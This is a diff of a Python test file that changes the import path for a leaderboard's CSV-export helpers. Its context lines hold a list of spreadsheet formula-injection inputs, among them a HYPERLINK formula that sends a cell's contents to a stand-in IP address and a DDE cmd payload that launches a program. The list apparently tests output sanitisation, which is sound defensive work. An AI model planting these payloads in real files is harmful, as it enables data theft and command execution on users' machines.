@@ -7,7 +7,7 @@ import csv
 import io
 import time
 
-from babygpt.lessons.leaderboard import Board, Entry, Refusal, Spread, board_csv, csv_table, rank_entries
+from babygpt.scoring.leaderboard import Board, Entry, Refusal, Spread, board_csv, csv_table, rank_entries
 
 FORMULAS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
             " =cmd|' /C calc'!A0"]
